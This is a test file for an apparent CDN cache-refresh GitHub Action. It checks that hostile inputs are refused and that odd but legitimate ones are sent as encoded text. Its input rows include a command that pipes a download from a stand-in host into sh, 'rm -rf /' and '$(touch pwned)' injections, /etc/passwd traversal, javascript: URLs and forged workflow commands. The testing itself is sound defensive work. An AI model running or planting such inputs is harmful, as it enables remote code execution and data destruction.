// Issue 4, hostile input: the committed bundle, run as a runner runs it,
// against the local emulator. A bad value is refused before any request,
// with one error annotation naming the input, exit code 1 and no stack
// trace; a strange but legitimate value is handled and sent as text.
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { startEmulator, type Emulator } from '../emulator/index.mjs'
import { runAction, type ActionRun } from '../scripts/run-action.mjs'

const SECRET_ID = 'AKIDhostileInputSecretId0000000000'
const SECRET_KEY = 'hostileInputSecretKeyValue000000'
const HOST = 'www.example.com'
const L = `https://${HOST}/`
const ROOT = fileURLToPath(new URL('..', import.meta.url))

async function withEmulator<T>(
  work: (emu: Emulator) => Promise<T>
): Promise<T> {
  const emu = await startEmulator({
    credentials: { [SECRET_ID]: SECRET_KEY },
    overseasDomains: [HOST, 'h']
  })
  try {
    return await work(emu)
  } finally {
    await emu.close()
  }
}

function run(
  emu: Emulator,
  inputs: Record<string, string>
): Promise<ActionRun> {
  return runAction({
    inputs: {
      'secret-id': SECRET_ID,
      'secret-key': SECRET_KEY,
      endpoint: emu.v2Endpoint,
      ...inputs
    },
    event: { ref: 'refs/heads/main' }
  })
}

const json = (text: string | undefined): unknown => JSON.parse(text ?? 'null')

/** No trace, no unhandled rejection, nothing on stderr. */
function expectNoCrash(result: ActionRun): void {
  const all = result.stdout + result.stderr
  expect(all).not.toMatch(/\bat .*:\d+:\d+\)?$/m)
  expect(all).not.toMatch(/Unhandled|unhandledRejection|Unexpected error/)
  expect(result.stderr).toBe('')
}

/** Deterministic NUL-free "binary" text: code units 1-255. */
function garbage(length: number, seed: number, from = 1): string {
  let x = seed
  let text = ''
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) % 2 ** 31
    text += String.fromCharCode(from + (x % (256 - from)))
  }
  return text
}

const lines = (n: number, line: (i: number) => string): string =>
  Array.from({ length: n }, (_, i) => line(i)).join('\n')

// [what, inputs (beside credentials and endpoint), the input named]
type Refused = [string, Record<string, string>, string]

const withFile = (dirs: string): Record<string, string> => ({
  dirs,
  files: 'docs/a.html'
})
const okDirs = (more: Record<string, string>): Record<string, string> => ({
  dirs: `${L}a/`,
  ...more
})

const REFUSED: Refused[] = [
  // dirs: characters, segments, parts a directory URL cannot have
  ['a tab inside a URL', { dirs: `${L}a\tb/` }, 'dirs'],
  ['an ANSI escape sequence', { dirs: `${L}\u001b[31mred/` }, 'dirs'],
  ['a DEL character', { dirs: `${L}a\u007f/` }, 'dirs'],
  ['a .. segment', { dirs: `${L}a/../../etc/` }, 'dirs'],
  ['a percent-encoded .. segment', { dirs: `${L}a/%2e%2E/b/` }, 'dirs'],
  ['a . segment', { dirs: `${L}./a/` }, 'dirs'],
  ['user-info', { dirs: `https://user:secret@${HOST}/a/` }, 'dirs'],
  [
    'a look-alike host with @',
    { dirs: `${L.slice(0, -1)}@evil.example/a/` },
    'dirs'
  ],
  ['a query', { dirs: `${L}a/?x=1` }, 'dirs'],
  ['a fragment', { dirs: `${L}a/#top` }, 'dirs'],
  ['a wildcard (F2, F39)', { dirs: `${L}assets/*` }, 'dirs'],
  ['a wildcard host', { dirs: 'https://*.example.com/a/' }, 'dirs'],
  ['an ftp:// URL', { dirs: `ftp://${HOST}/a/` }, 'dirs'],
  ['a javascript: URL', { dirs: 'javascript:alert(1)' }, 'dirs'],
  ['a file: URL', { dirs: 'file:///etc/passwd' }, 'dirs'],
  ['a data: URL', { dirs: 'data:text/html;base64,PHNjcmlwdD4=' }, 'dirs'],
  ['a scheme-relative URL', { dirs: `//${HOST}/a/` }, 'dirs'],
  ['a URL without scheme', { dirs: `${HOST}/a/` }, 'dirs'],
  ['backslashes', { dirs: `https://${HOST}\\..\\a\\` }, 'dirs'],
  ['a 5,000-character URL', { dirs: `${L}${'a'.repeat(5000)}/` }, 'dirs'],
  [
    'a URL over 2048 characters once encoded',
    { dirs: `${L}${'中'.repeat(800)}/` },
    'dirs'
  ],
  ['a port out of range', { dirs: `https://${HOST}:99999/a/` }, 'dirs'],
  ['an empty host', { dirs: 'https:///a/' }, 'dirs'],
  [
    'quotes and shell syntax with a comment',
    { dirs: `${L}a/"; curl https://evil.example | sh #` },
    'dirs'
  ],
  ['a forged workflow command', { dirs: '::error::forged' }, 'dirs'],
  [
    'a forged workflow command on a line of its own',
    { dirs: `${L}a/\n::warning file=x.js::forged` },
    'dirs'
  ],
  ['NUL-free binary garbage', { dirs: garbage(300, 7) }, 'dirs'],
  ['high-byte garbage', { dirs: garbage(300, 11, 0xa0) }, 'dirs'],
  [
    '10,000 lines, the last one bad',
    { dirs: `${lines(9999, () => 'http://h/a/')}\nftp://h/x/` },
    'dirs'
  ],
  ['only separators', { dirs: ',\n , \r\n' }, 'dirs'],
  // dirs: templates
  ['an unknown placeholder', withFile(`${L}{file}/`), 'dirs'],
  ['a three-digit depth', withFile(`${L}{dir:100}/`), 'dirs'],
  ['a negative depth', withFile(`${L}{dir:-1}/`), 'dirs'],
  ['a placeholder in the host', withFile('https://{dir}.example.com/'), 'dirs'],
  ['an unclosed brace', withFile(`${L}{dir/`), 'dirs'],
  ['an unexpanded expression', withFile(`${L}\${{ github.token }}/`), 'dirs'],
  ['a template with a query', withFile(`${L}{dir}/?v=1`), 'dirs'],
  [
    'a bad literal beside a template',
    withFile(`${L}{dir}/\nftp://${HOST}/x/`),
    'dirs'
  ],
  // files
  ['a file outside the repository', withFile2('../etc/passwd'), 'files'],
  ['a file climbing out with ..', withFile2('docs/../../b.html'), 'files'],
  ['a file with an escape character', withFile2('a\u001bb.html'), 'files'],
  ['a file with backslashes', withFile2('docs\\a.html'), 'files'],
  ['a binary file list', withFile2(garbage(300, 13)), 'files'],
  // root
  [
    'a root outside the repository',
    withTemplate({ root: '../outside' }),
    'root'
  ],
  ['a root climbing out', withTemplate({ root: 'public/../..' }), 'root'],
  [
    'a root with a bell character',
    withTemplate({ root: 'pub\u0007lic' }),
    'root'
  ],
  ['a Windows root', withTemplate({ root: 'C:\\site' }), 'root'],
  // include / exclude, with a template line and without one
  ['an unclosed [ in include', withTemplate({ include: '[abc' }), 'include'],
  [
    'an unclosed [ in include, literal dirs only',
    okDirs({ include: '[abc' }),
    'include'
  ],
  ['a .. in exclude', withTemplate({ exclude: '../x/**' }), 'exclude'],
  ['a negated include', withTemplate({ include: '!**/*.map' }), 'include'],
  ['an absolute exclude', okDirs({ exclude: '/abs/**' }), 'exclude'],
  ['a one-alternative brace', withTemplate({ include: '{a}' }), 'include'],
  ['an unclosed brace glob', okDirs({ include: '**/*.{html,' }), 'include'],
  // numbers
  ['batch-size 0', okDirs({ 'batch-size': '0' }), 'batch-size'],
  ['batch-size 21 on API 2.0', okDirs({ 'batch-size': '21' }), 'batch-size'],
  ['batch-size -1', okDirs({ 'batch-size': '-1' }), 'batch-size'],
  ['batch-size 1e2', okDirs({ 'batch-size': '1e2' }), 'batch-size'],
  ['batch-size 0x10', okDirs({ 'batch-size': '0x10' }), 'batch-size'],
  [
    'a 23-digit batch-size',
    okDirs({ 'batch-size': '99999999999999999999999' }),
    'batch-size'
  ],
  ['full-width digits', okDirs({ 'batch-size': '２０' }), 'batch-size'],
  [
    'shell syntax in a number',
    okDirs({ 'batch-size': '20; rm -rf /' }),
    'batch-size'
  ],
  ['daily-limit 0', okDirs({ 'daily-limit': '0' }), 'daily-limit'],
  ['daily-limit 10001', okDirs({ 'daily-limit': '10001' }), 'daily-limit'],
  [
    'daily-limit Infinity',
    okDirs({ 'daily-limit': 'Infinity' }),
    'daily-limit'
  ],
  ['retries 11', okDirs({ retries: '11' }), 'retries'],
  ['retries -1', okDirs({ retries: '-1' }), 'retries'],
  ['retries 3.5', okDirs({ retries: '3.5' }), 'retries'],
  ['timeout 0', okDirs({ timeout: '0' }), 'timeout'],
  ['timeout 0.01', okDirs({ timeout: '0.01' }), 'timeout'],
  ['timeout 301', okDirs({ timeout: '301' }), 'timeout'],
  ['timeout NaN', okDirs({ timeout: 'NaN' }), 'timeout'],
  ['timeout 1e3', okDirs({ timeout: '1e3' }), 'timeout'],
  // enums and booleans
  ['api-version 4.0', okDirs({ 'api-version': '4.0' }), 'api-version'],
  ['two api-versions', okDirs({ 'api-version': '2.0\n3.0' }), 'api-version'],
  [
    'signature-method HmacMD5',
    okDirs({ 'signature-method': 'HmacMD5' }),
    'signature-method'
  ],
  ['over-limit merge', okDirs({ 'over-limit': 'merge' }), 'over-limit'],
  ['area global', okDirs({ area: 'global' }), 'area'],
  ['flush-type purge', okDirs({ 'flush-type': 'purge' }), 'flush-type'],
  ['dry-run yes', okDirs({ 'dry-run': 'yes' }), 'dry-run'],
  ['fail-on-error 1', okDirs({ 'fail-on-error': '1' }), 'fail-on-error'],
  // endpoint
  ['an ftp endpoint', okDirs({ endpoint: 'ftp://127.0.0.1/' }), 'endpoint'],
  [
    'an endpoint with user-info',
    okDirs({ endpoint: 'https://u:p@127.0.0.1/' }),
    'endpoint'
  ],
  [
    'an endpoint with a query',
    okDirs({ endpoint: 'http://127.0.0.1/?a=1' }),
    'endpoint'
  ],
  ['an endpoint that is no URL', okDirs({ endpoint: 'not a url' }), 'endpoint'],
  [
    'a javascript: endpoint',
    okDirs({ endpoint: 'javascript:alert(1)' }),
    'endpoint'
  ],
  // credentials: refused without their value
  [
    'a secret-key with a space',
    okDirs({ 'secret-key': 'has space inside' }),
    'secret-key'
  ],
  [
    'a secret-id with a bell',
    okDirs({ 'secret-id': 'AKID\u0007bell' }),
    'secret-id'
  ],
  [
    'a non-ASCII session-token',
    okDirs({ 'session-token': 'tökén' }),
    'session-token'
  ]
]

function withFile2(files: string): Record<string, string> {
  return { dirs: `${L}{dir}/`, files }
}

function withTemplate(more: Record<string, string>): Record<string, string> {
  return { dirs: `${L}{dir}/`, files: 'public/docs/a.html', ...more }
}

const CREDENTIAL_INPUTS = ['secret-id', 'secret-key', 'session-token']

describe('hostile input is refused before any request', () => {
  it('has at least 40 rows, covering every kind of input', () => {
    expect(REFUSED.length).toBeGreaterThanOrEqual(40)
    const named = new Set(REFUSED.map(([, , input]) => input))
    for (const input of [
      'dirs',
      'files',
      'root',
      'include',
      'exclude',
      'batch-size',
      'daily-limit',
      'retries',
      'timeout',
      'api-version',
      'signature-method',
      'over-limit',
      'area',
      'flush-type',
      'dry-run',
      'fail-on-error',
      'endpoint'
    ]) {
      expect(named).toContain(input)
    }
  })

  it.concurrent.each(REFUSED)(
    '%s: one error naming the input, exit 1, nothing sent',
    (_what, inputs, input) =>
      withEmulator(async emu => {
        const result = await run(emu, inputs)

        expect(result.exitCode).toBe(1)
        expect(emu.requests).toHaveLength(0)
        // One annotation, the error: no forged or stray ones.
        expect(result.annotations).toHaveLength(1)
        const [error] = result.annotations
        expect(error.level).toBe('error')
        expect(error.message).toMatch(new RegExp(`^Input '${input}'`))
        expect(error.message).not.toContain('\n')
        expect(result.outputs.count).toBe('0')
        expect(result.outputs.requests).toBe('0')
        expectNoCrash(result)
        if (CREDENTIAL_INPUTS.includes(input)) {
          const shown = result.stdout
            .split('\n')
            .filter(line => !line.startsWith('::add-mask::'))
            .join('\n')
          expect(shown).not.toContain(inputs[input])
          expect(error.message).toContain('not shown')
        }
      })
  )
})

describe('strange but legitimate input is handled as text', () => {
  /** A run that sent exactly `expected` (in one batch) and counted it. */
  async function expectSent(
    inputs: Record<string, string>,
    expected: string[]
  ): Promise<ActionRun> {
    return withEmulator(async emu => {
      const result = await run(emu, inputs)
      expect(result.exitCode).toBe(0)
      expectNoCrash(result)
      expect(emu.requests.flatMap(r => r.dirs)).toEqual(expected)
      expect(emu.requests.every(r => r.verified)).toBe(true)
      expect(json(result.outputs['refreshed-dirs'])).toEqual(expected)
      expect(result.outputs.count).toBe(String(expected.length))
      return result
    })
  }

  it.concurrent('$(rm -rf /) inside a path is just text, percent-encoded', () =>
    expectSent({ dirs: `${L}$(rm -rf /)/` }, [`${L}$(rm%20-rf%20/)/`])
  )

  it.concurrent('quotes, backticks, pipes and $VARS stay text', () =>
    expectSent({ dirs: `${L}it's "q" \`id\`; echo $HOME | tee x/` }, [
      `${L}it's%20%22q%22%20%60id%60;%20echo%20$HOME%20|%20tee%20x/`
    ])
  )

  it.concurrent(
    'case, spaces, escapes already written and a lone % are normalised once (F38)',
    () =>
      expectSent(
        {
          dirs: [
            'HTTPS://WWW.EXAMPLE.COM/A/',
            `${L}a b/`,
            `${L}already%20enc/`,
            `${L}100%/`
          ].join('\n')
        },
        [`${L}100%25/`, `${L}A/`, `${L}a%20b/`, `${L}already%20enc/`]
      )
  )

  it.concurrent(
    'invisible and bidi control characters outside C0 are percent-encoded in the plan, outputs and summary',
    async () => {
      const result = await expectSent(
        { dirs: `${L}a\u0085b/\n${L}c\u2028d/\n${L}e\u202Ef/` },
        [`${L}a%C2%85b/`, `${L}c%E2%80%A8d/`, `${L}e%E2%80%AEf/`]
      )
      // Only the debug echo of the raw input keeps them (see reliability.md).
      const shown = result.stdout
        .split('\n')
        .filter(line => !line.startsWith('::debug::'))
        .join('\n')
      for (const c of ['\u0085', '\u2028', '\u202E']) {
        expect(shown).not.toContain(c)
        expect(result.summary).not.toContain(c)
        expect(Object.values(result.outputs).join('')).not.toContain(c)
      }
    }
  )

  it.concurrent(
    'file names with shell syntax, ?, #, % and %2e%2e become literal path text',
    async () => {
      await expectSent(
        {
          dirs: `${L}{dir}/`,
          files: [
            'a $(touch pwned)/x.html',
            'q?x#y/%z/f.html',
            'a/%2e%2e/x.html',
            "it's `id`/f.html"
          ].join('\n')
        },
        [
          `${L}a%20$(touch%20pwned)/`,
          `${L}a/%252e%252e/`,
          `${L}it's%20%60id%60/`,
          `${L}q%3Fx%23y/%25z/`
        ]
      )
      // Nothing ran: the bundle runs in the repository root here.
      expect(existsSync(join(ROOT, 'pwned'))).toBe(false)
    }
  )

  it.concurrent('a root with slashes around it is normalised', () =>
    expectSent(
      {
        dirs: `${L}{dir}/`,
        root: '/public/',
        files: 'public/docs/a.html\nother/b.html'
      },
      [`${L}docs/`]
    )
  )

  it.concurrent('numbers with spaces around them are read', () =>
    withEmulator(async emu => {
      const result = await run(emu, {
        dirs: lines(12, i => `${L}n${String(i).padStart(2, '0')}/`),
        'batch-size': ' 5 ',
        retries: ' 0 '
      })
      expect(result.exitCode).toBe(0)
      expect(emu.requests.map(r => r.dirs.length).sort()).toEqual([2, 5, 5])
    })
  )

  it.concurrent(
    '10,000 changed files plan, widen to the daily limit and go out without crashing',
    () =>
      withEmulator(async emu => {
        // 50 sections of 200 folders: 10,000 dirs, 50 parents fit 100.
        const files = lines(10_000, i => `s${i % 50}/p${i}/f`)
        const result = await run(emu, { dirs: `${L}{dir}/`, files })

        expect(result.exitCode).toBe(0)
        expectNoCrash(result)
        const planned = json(result.outputs['planned-dirs']) as string[]
        expect(planned).toHaveLength(50)
        expect(planned).toContain(`${L}s49/`)
        expect(result.outputs.count).toBe('50')
        expect(emu.used(SECRET_ID)).toBe(50)
        expect(emu.requests.map(r => r.dirs.length)).toEqual([20, 20, 10])
        const widened = result.annotations.filter(a => a.level === 'warning')
        expect(widened).toHaveLength(1)
        expect(widened[0].message).toMatch(/^Widened 10000 directories into 50/)
      })
  )

  it.concurrent(
    '10,000 dirs lines are deduplicated and widened without crashing',
    () =>
      withEmulator(async emu => {
        // 1,000 distinct dirs, each ten times; one input stays under the
        // 128 KiB a single environment variable may hold on Linux.
        const dirs = lines(10_000, i => `http://h/${(i % 1000).toString(36)}/`)
        const result = await run(emu, { dirs })

        expect(result.exitCode).toBe(0)
        expectNoCrash(result)
        expect(json(result.outputs['planned-dirs'])).toEqual(['http://h/'])
        expect(result.outputs.count).toBe('1')
        expect(emu.requests).toHaveLength(1)
      })
  )
})
